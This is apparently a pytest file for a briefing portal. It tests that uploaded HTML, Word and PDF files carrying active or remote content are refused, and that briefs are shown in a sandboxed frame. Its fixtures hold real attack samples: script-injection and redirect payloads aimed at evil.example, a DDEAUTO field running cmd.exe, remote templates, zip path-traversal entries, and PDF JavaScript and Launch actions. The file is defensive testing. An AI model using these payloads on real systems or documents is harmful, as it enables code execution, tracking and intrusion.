"""What an uploaded file may hold, as browsers, Word and PDF viewers read it; and how a published page stands in the portal's own."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Any
from xml.sax.saxutils import escape

import pikepdf
import pytest
from pikepdf import Dictionary, Name

from briefgen.errors import Problems
from briefgen.portal.models import Release
from briefgen.portal.publishing import releasing, safety
from briefgen.portal.publishing.offer import OfferedFile, group_by_audience
from briefgen.portal.publishing.releasing import Publisher
from briefgen.writers import UnreadableError
from tests.portal import offers
from tests.portal.people import body, browser, person, release

HTML = [
    "<!--><meta http-equiv=refresh content='0;url=https://evil.example'>-->",
    "<!-- a --!><meta http-equiv=refresh content=0>-->",
    "<!---><script>alert(1)</script>-->",
    "<![CDATA[><meta http-equiv=refresh content=0>]]>",
    "<?x ><script>1</script>?>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<META HTTP-EQUIV=Refresh content=0>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><p>x</p></foreignObject></svg>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<svg><a href='javascript:alert(1)'>x</a></svg>",
    "<svg><animate attributeName=href to=javascript:1 /></svg>",
    "<math><mtext><script>1</script></mtext></math>",
    "<noscript><p title='</noscript><script>1</script>'></noscript>",
    "<template><script>1</script></template>",
    "<textarea><script>1</script></textarea>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<a href='https://a.example' ping='https://evil.example'>x</a>",
    "<img src='https://evil.example/pixel.png' alt=''>",
    "<img src='data:image/svg+xml;base64,AAAA' alt=''>",
    "<img srcset='https://evil.example/pixel.png' alt=''>",
    "<p onclick=alert(1)>x</p>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<form action='https://evil.example'><input></form>",
    "<button formaction='https://evil.example'>x</button>",
    "<iframe src='https://evil.example'></iframe>",
    "<link rel=preload href='https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<object data='https://evil.example'></object>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>p { background: url(https://evil.example/a.png) }</style>",
    "<style>p { background: \\75rl(https://evil.example/a.png) }</style>",
    "<svg><rect fill='url(https://evil.example/a.svg#x)'/></svg>",
]


def minister(form: str) -> bytes:
    return offers.of(offers.files(offers.brief()), "minister", form).data


@pytest.mark.parametrize("words", HTML)
def test_a_page_with_what_a_browser_would_act_on_is_refused(words: str) -> None:
    page = minister("html").decode()
    for place in ("</head>", "</body>"):
        with pytest.raises(UnreadableError, match="expected a file without"):
            safety.check("html", page.replace(place, words + place, 1).encode())


@pytest.mark.parametrize("form", ["html", "docx", "pdf"])
def test_what_briefgen_makes_is_taken(form: str) -> None:
    for audience in ("minister", "analyst"):
        safety.check(form, offers.of(offers.files(offers.brief()), audience, form).data)


def _package(data: bytes, change: Callable[[str, bytes], bytes], **more: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(made, "w") as after:
        for one in before.infolist():
            after.writestr(one.filename, change(one.filename, before.read(one)))
        for name, content in more.items():
            after.writestr(name, content)
    return made.getvalue()


def _related(kind: str, target: str, mode: str = ' TargetMode="External"') -> Callable[[str, bytes], bytes]:
    said = f'<Relationship Id="x9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/>'

    def change(name: str, data: bytes) -> bytes:
        return (
            data.replace(b"</Relationships>", said.encode() + b"</Relationships>")
            if "document.xml.rels" in name
            else data
        )

    return change


def _field(code: str) -> Callable[[str, bytes], bytes]:
    run = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (code[:2], code[2:]))
    said = f"<w:p>{run}</w:p></w:body>".encode()

    def change(name: str, data: bytes) -> bytes:
        return data.replace(b"</w:body>", said) if name == "word/document.xml" else data

    return change


def _in_body(said: str) -> Callable[[str, bytes], bytes]:
    return _before("word/document.xml", "</w:body>", f"<w:p>{said}</w:p>")


def _before(part: str, mark: str, said: str) -> Callable[[str, bytes], bytes]:
    def change(name: str, data: bytes) -> bytes:
        return data.replace(mark.encode(), said.encode() + mark.encode(), 1) if name == part else data

    return change


def _mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _code(said: str) -> str:
    return f"<w:r><w:instrText>{said}</w:instrText></w:r>"


def _nested(code: str) -> str:
    """A field whose code another field makes."""
    return _mark("begin") + _mark("begin") + _code(code) + _mark("end") + _code(" c:\\cmd") + _mark("end")


def _same(name: str, data: bytes) -> bytes:
    return data


WORD: dict[str, Callable[[bytes], bytes]] = {
    "macros": lambda data: _package(data, _same, **{"word/vbaProject.bin": b"x"}),
    "macro type": lambda data: _package(
        data, lambda name, part: part.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    ),
    "control": lambda data: _package(data, _same, **{"word/activeX/activeX1.xml": b"<x/>"}),
    "remote template": lambda data: _package(data, _related("attachedTemplate", "https://evil.example/a.dotm")),
    "template of a share": lambda data: _package(data, _related("attachedTemplate", "a.dotx", "")),
    "remote picture": lambda data: _package(data, _related("image", "https://evil.example/a.png")),
    "remote object": lambda data: _package(data, _related("oleObject", "https://evil.example/a")),
    "other format": lambda data: _package(data, _related("aFChunk", "a.html", "")),
    "link to a file": lambda data: _package(data, _related("hyperlink", "file://evil.example/share")),
    "command": lambda data: _package(data, _field("DDEAUTO c:\\windows\\system32\\cmd.exe")),
    "remote text": lambda data: _package(data, _field('INCLUDETEXT "https://evil.example"')),
    "workbook with macros": lambda data: _package(
        data, _same, **{"word/embeddings/a.xlsx": _package(data, _same, **{"xl/vbaProject.bin": b"x"})}
    ),
    "code of a field made by another": lambda data: _package(data, _in_body(_nested("QUOTE 68 68 69 65 85 84 79"))),
    "code of a field made by a field of ours": lambda data: _package(data, _in_body(_nested("TITLE"))),
    "words in the code of a field": lambda data: _package(data, _in_body(
        _mark("begin") + _code("TITLE") + "<w:r><w:t> DDEAUTO</w:t></w:r>" + _mark("end"))),
    "field without an end": lambda data: _package(data, _in_body(_mark("begin") + _code("DDEAUTO c"))),
    "picture of an old drawing": lambda data: _package(data, _in_body(
        "<w:r><w:pict><v:imagedata xmlns:v='urn:schemas-microsoft-com:vml' src='http://evil.example/x.png'/></w:pict></w:r>")),
    "mail merge": lambda data: _package(data, _before(
        "word/settings.xml", "</w:settings>", "<w:mailMerge><w:connectString w:val='Provider=x'/></w:mailMerge>")),
    "remote picture that says it is here": lambda data: _package(data, _related("image", "http://evil.example/x.png", "")),
    "remote picture in small letters": lambda data: _package(
        data, _related("image", "http://evil.example/x.png", ' TargetMode="external"')),
    "picture of a share": lambda data: _package(data, _related("image", "\\\\evil.example\\x.png", "")),
    "picture of a server": lambda data: _package(data, _related("image", "//evil.example/x.png", "")),
    "unknown relationship": lambda data: _package(data, _related("zzz", "a.xml", "")),
    "entry outside": lambda data: _package(data, _same, **{"../../evil.txt": b"x"}),
    "entry of the root": lambda data: _package(data, _same, **{"/etc/evil.xml": b"<x/>"}),
    "entry of another kind": lambda data: _package(data, _same, **{"word/a.dat": b"x"}),
    "document under another kind's name": lambda data: _package(data, _before(
        "[Content_Types].xml", "</Types>",
        '<Override PartName="/word/a.png" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>')),
    "drawing with a script": lambda data: _package(
        data, _same, **{"word/media/a.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"}),
    "drawing that fetches": lambda data: _package(
        data, _same, **{"word/media/a.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><image href='http://evil.example/x'/></svg>"}),
    "drawing with a style that fetches": lambda data: _package(
        data, _same, **{"word/media/a.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><path fill='url(http://evil.example/x)'/></svg>"}),
    "workbook that calls a program": lambda data: _package(data, _same, **{"word/embeddings/a.xlsx": _package(
        data, _same, **{"xl/a.xml": b"<c xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><f>cmd|a</f></c>"})}),
    "entities": lambda data: _package(data, _same, **{"word/a.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}),
    "broken": lambda data: data[:5_000],
}  # fmt: skip


@pytest.mark.parametrize("change", WORD.values(), ids=WORD)
def test_a_word_file_with_what_runs_or_fetches_is_refused(change: Callable[[bytes], bytes]) -> None:
    with pytest.raises(UnreadableError):
        safety.check("docx", change(minister("docx")))


@pytest.mark.parametrize("code", [
    "ddeauto c:\\cmd", "DdeAuto c:\\cmd", "includepicture http://evil.example/x", "includetext x", "HYPERLINK javascript:x",
    'HYPERLINK "file:///c:/x.exe"', "HTMLCONTROL x", "PRINT 27", "GOTOBUTTON x y", "=1", '"DDEAUTO" x', "", "w\N{ZERO WIDTH SPACE}",
])  # fmt: skip
@pytest.mark.parametrize("kind", ["simple", "complex", "strict"])
def test_a_word_field_that_none_of_our_files_has_is_refused(kind: str, code: str) -> None:
    said = escape(code, {'"': "&quot;"})
    field = {
        "simple": f'<w:fldSimple w:instr="{said}"/>',
        "complex": _mark("begin") + _code(said) + _mark("separate") + _mark("end"),
        "strict": f'<s:fldSimple xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main" s:instr="{said}"/>',
    }[kind]
    with pytest.raises(UnreadableError, match="without a field"):
        safety.check("docx", _package(minister("docx"), _in_body(field)))


@pytest.mark.parametrize("code", [" page ", 'STYLEREF "Heading 1"', "SEQ Table \\* ARABIC", 'TOC \\o "1-2"'])
def test_a_word_field_of_a_letterhead_is_taken(code: str) -> None:
    said = escape(code, {'"': "&quot;"})
    safety.check("docx", _package(minister("docx"), _in_body(f'<w:fldSimple w:instr="{said}"/>')))


def _pdf(change: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(minister("pdf"))) as pdf:
        change(pdf)
        pdf.save(made, **options)
    return made.getvalue()


def _root(**values: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        for name, value in values.items():
            pdf.Root[f"/{name}"] = value

    return change


def _annotated(**action: Any) -> Callable[[pikepdf.Pdf], None]:
    return _noted(Subtype=Name.Link, A=Dictionary(**action))


def _noted(**values: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0].obj
        annotation = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **values)
        page.Annots = pikepdf.Array([*page.get("/Annots", []), annotation])

    return change


PDF: dict[str, Callable[[], bytes]] = {
    "script at the start": lambda: _pdf(_root(OpenAction=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))),
    "address at the start": lambda: _pdf(_root(OpenAction=Dictionary(S=Name.URI, URI="https://evil.example"))),
    "further actions": lambda: _pdf(_root(AA=Dictionary(WC=Dictionary(S=Name.JavaScript, JS="1")))),
    "named scripts": lambda: _pdf(_root(Names=Dictionary(JavaScript=Dictionary(Names=["a", Dictionary(S=Name.JavaScript, JS="1")])))),
    "a program": lambda: _pdf(_annotated(S=Name.Launch, F="cmd.exe")),
    "another file": lambda: _pdf(_annotated(S=Name.GoToR, F="a.pdf", D=[0, Name.Fit])),
    "a script as a link": lambda: _pdf(_annotated(S=Name.URI, URI="javascript:alert(1)")),
    "a form": lambda: _pdf(_root(AcroForm=Dictionary(Fields=[], XFA="x"))),
    "a field of a form": lambda: _pdf(_noted(Subtype=Name.Widget, FT=Name.Tx)),
    "a note": lambda: _pdf(_noted(Subtype=Name.Text, Contents="secret")),
    "a print of the page": lambda: _pdf(_annotated(S=Name.Named, N=Name.Print)),
    "a program after a link": lambda: _pdf(
        _annotated(S=Name.URI, URI="https://a.example", Next=pikepdf.Array([Dictionary(S=Name.Hide)]))),
    "an attachment": lambda: _pdf(lambda pdf: pdf.attachments.__setitem__("a.exe", b"MZ")),
    "a password": lambda: _pdf(lambda pdf: None, encryption=pikepdf.Encryption(owner="a", user="")),
    "no PDF": lambda: b"%PDF-1.7 something else",
}  # fmt: skip


@pytest.mark.filterwarnings("ignore:This document has 1 form widget")
@pytest.mark.parametrize("make", PDF.values(), ids=PDF)
def test_a_pdf_that_acts_or_carries_something_is_refused(make: Callable[[], bytes]) -> None:
    with pytest.raises(UnreadableError):
        safety.check("pdf", make())


def test_a_refused_file_is_named_with_what_is_wrong() -> None:
    page = minister("html").replace(b"</body>", b"<!-- x --></body>")
    with pytest.raises(Problems, match=r"corridor\.minister\.html.*expected a file without comments"):
        group_by_audience((OfferedFile("corridor.minister.html", page),))


@pytest.mark.usefixtures("house")
def test_who_approves_has_opened_a_file_of_each_audience() -> None:
    one, other = (person(name, is_releaser=True) for name in ("one", "other"))
    made = releasing.publish(offers.files(offers.brief()), Publisher(one, second_releaser=True)).release
    assert made is not None
    client = browser(other)
    client.get(f"/releases/{made.pk}/minister/corridor.minister.pdf")
    text = body(client.post(f"/releases/{made.pk}/", {"decision": "approve"}, follow=True)).decode()
    assert "No file of corridor/analyst/1.0 was opened: open one of each audience, then approve." in text
    assert Release.objects.get().state == "proposed"
    client.get(f"/releases/{made.pk}/analyst/corridor.analyst.html")
    client.post(f"/releases/{made.pk}/", {"decision": "approve"})
    assert Release.objects.get().state == "released"


@pytest.mark.usefixtures("house")
def test_a_brief_is_read_in_a_frame_without_scripts_forms_and_navigation() -> None:
    release(offers.files(offers.brief()))
    client = browser(person("secretary", "minister"))
    page = client.get("/briefs/corridor/minister/1.0/read/")
    text = body(page).decode()
    assert '<iframe sandbox name="page" title="Grain corridor reopens"' in text
    assert "frame-src 'self'" in page["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in page["Content-Security-Policy"]
    address = text.partition(' src="')[2].partition('"')[0]
    file = client.get(address)
    policy = file["Content-Security-Policy"]
    assert policy.endswith("frame-ancestors 'self'; sandbox")
    assert file["X-Frame-Options"] == "SAMEORIGIN"
    again = client.get(address, headers={"If-None-Match": file["ETag"]})
    assert (again["X-Frame-Options"], again["Content-Security-Policy"]) == ("SAMEORIGIN", policy)
    releasing.withdraw("corridor", Publisher(None), "x")
    assert client.get("/briefs/corridor/minister/1.0/read/").status_code == 404
